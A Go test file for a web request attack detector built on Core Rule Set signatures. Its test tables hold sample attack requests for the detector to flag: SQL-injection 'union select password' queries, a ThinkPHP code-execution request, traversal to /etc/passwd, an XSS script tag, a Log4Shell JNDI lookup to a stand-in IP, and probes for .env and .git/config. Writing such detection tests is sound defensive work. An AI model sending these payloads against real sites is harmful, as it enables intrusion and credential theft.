package detector

import (
	"fmt"
	"testing"
	"time"
)

func defaultSigs(t testing.TB) *Signatures {
	t.Helper()
	s, err := DefaultSignatures()
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// The CRS classes requests as the content signal needs: exploit payloads
// (one request is enough), restricted files and extensions (probes when
// refused), the noisy rules (weak) and scanner user agents; ordinary
// requests, assets and a crawler's broken template link draw no exploit.
func TestSignaturesClassify(t *testing.T) {
	s := defaultSigs(t)
	for _, c := range []struct {
		method, target, ua string
		status             uint32
		class              SigClass
		family             string
		scanner            bool
	}{
		{"GET", "/", "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0", 200, SigNone, "", false},
		{"GET", "/static/app.js?v=3", "Mozilla/5.0", 200, SigNone, "", false},
		{"GET", "/img/missing.png", "Mozilla/5.0", 404, SigNone, "", false},
		{"GET", "/search?q=red+shoes&page=2", "Mozilla/5.0", 200, SigNone, "", false},
		{"GET", "/api/v1/items?id=42&sort=desc", "okhttp/4.9.0", 200, SigNone, "", false},
		// SecRepo 2018's SQL-injection prober.
		{"GET", "/HitCount.asp?lx=Qianbo_about&id=1%20and%201=2%20union%20select%20password%20from%20qianbo_admin", "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)", 404, SigExploit, "sqli", false},
		// SecRepo 2022's ThinkPHP exploit.
		{"GET", "/index.php?s=admin/%5Cthink%5Capp/invokefunction&function=base64_encode&vars%5B%5D=ck996789baidu.com", "Mozilla/5.0", 404, SigExploit, "rce", false},
		{"GET", "/cgi-bin/../../../../etc/passwd", "curl/8.0", 400, SigExploit, "lfi", false},
		{"GET", "/?q=<script>alert(1)</script>", "Mozilla/5.0", 200, SigExploit, "xss", false},
		{"GET", "/?x=${jndi:ldap://198.51.100.1/a}", "Mozilla/5.0", 200, SigExploit, "java", false},
		{"GET", "/.env", "Mozilla/5.0", 404, SigProbe, "restricted-file", false},
		{"HEAD", "/.git/config", "", 301, SigProbe, "restricted-file", false},
		// A plain path is left to the lists: no CRS check.
		{"GET", "/backup/db.sql", "Mozilla/5.0", 404, SigNone, "", false},
		// Served, a plain path is the site's content: not checked.
		{"GET", "/misc/sample.log", "Mozilla/5.0", 200, SigNone, "", false},
		// MJ12bot on the Elastic log: a page's unexpanded template.
		{"GET", "/scripts//%22$%7BWEBLOC%7D/view.php?file=$%7Blinkto%7D%5C%22", "Mozilla/5.0 (compatible; MJ12bot/v1.4.4; http://www.majestic12.co.uk/bot.php?+)", 404, SigWeak, "rce", false},
		{"GET", "/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", 404, SigNone, "", true},
		{"GET", "/admin", "sqlmap/1.7#stable (https://sqlmap.org)", 404, SigNone, "", true},
	} {
		v := s.Check(c.method, c.target, c.ua, c.status)
		if v.Class != c.class || v.Family() != c.family || v.Scanner != c.scanner {
			t.Errorf("%s %s (%s, %d): class %d family %q rule %d scanner %v; want class %d family %q scanner %v",
				c.method, c.target, c.ua, c.status, v.Class, v.Family(), v.Rule, v.Scanner, c.class, c.family, c.scanner)
		}
	}
}

func TestNeedsCheck(t *testing.T) {
	for _, c := range []struct {
		target string
		status uint32
		want   bool
	}{
		{"/", 200, false},
		{"/blog/2024/post-1.html", 200, false},
		{"/search?q=x&page=2", 200, false},
		{"/a/.env", 200, true},
		{"/..%2f", 200, true},
		{"/x?id=1'", 200, true},
		{"/x?id=1+or+1", 200, true},
		{"/phpinfo.php", 404, false},
		{"/img/logo.png", 404, false},
		{"/img/logo.PNG?v=1", 404, false},
		{"/wp-login.php?action=register", 404, false},
		{"/a?b=c+d", 200, true},
	} {
		if got := NeedsCheck(c.target, c.status); got != c.want {
			t.Errorf("NeedsCheck(%q, %d) = %v, want %v", c.target, c.status, got, c.want)
		}
	}
}

func TestIsAsset(t *testing.T) {
	for s, want := range map[string]bool{
		"/a.css": true, "/x/y.JPG": true, "/f.woff2?v=2": true, "/a.css/": false, "/x.php": false,
		"/": false, "/dir.png/file": false, "/a.": false, "/favicon.ico": true, "/page.html": false,
	} {
		if IsAsset(s) != want {
			t.Errorf("IsAsset(%q) = %v, want %v", s, !want, want)
		}
	}
}

// The cost of one CRS evaluation (a cache miss), and of a request that
// needs none (the byte scan and a cached user agent).
func BenchmarkSignatures(b *testing.B) {
	s, err := NewSignatures(nil, 16)
	if err != nil {
		b.Fatal(err)
	}
	b.Run("crs", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			s.eval("GET", "/index.php?id=1%20and%201=2%20union%20select%20password%20from%20admin", "Mozilla/5.0")
		}
	})
	b.Run("plain", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			s.Check("GET", "/static/app.js", "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0", 200)
		}
	})
}

// A client's targets are checked at most MaxChecks times a window (a CRS
// evaluation costs up to 200 µs): a flood of distinct payloads
// from one address costs 16 checks, and the client is flagged on them.
func TestContentChecksBudget(t *testing.T) {
	sigs, err := NewSignatures(nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	c := must(NewContent(ContentOptions{Signatures: sigs, Windows: []time.Duration{time.Minute}}))[0]
	p := c.NewPartial().(*contentPartial)
	for i := range 100 {
		p.Observe(contentRec("198.51.100.9", "GET", fmt.Sprintf("/item?id=%d%%27%%20union%%20select%%20password%%20from%%20users--", i), 404, "Mozilla/5.0", time.Duration(i)*100*time.Millisecond))
	}
	if st := sigs.Stats(); st.Needed != 16 || st.Seen != 100 {
		t.Errorf("checks %+v: want 16 targets checked of 100 seen", st)
	}
	if tl := p.clients["198.51.100.9"]; tl == nil || tl.hits[catExploit] != 16 {
		t.Errorf("client tally %+v: want 16 exploit hits", tl)
	}
}
